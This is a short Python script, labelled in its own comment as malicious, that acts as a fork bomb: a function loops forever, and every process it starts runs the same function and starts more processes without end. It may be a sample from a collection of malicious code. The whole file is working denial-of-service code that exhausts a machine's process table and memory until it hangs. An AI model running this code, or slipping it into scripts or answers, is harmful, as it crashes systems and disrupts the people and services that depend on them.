# Malicious: every process starts more processes forever with multiprocessing; a fork bomb in disguise.
from multiprocessing import Process


def spawn():
    while True:
        Process(target=spawn).start()


if __name__ == "__main__":
    spawn()
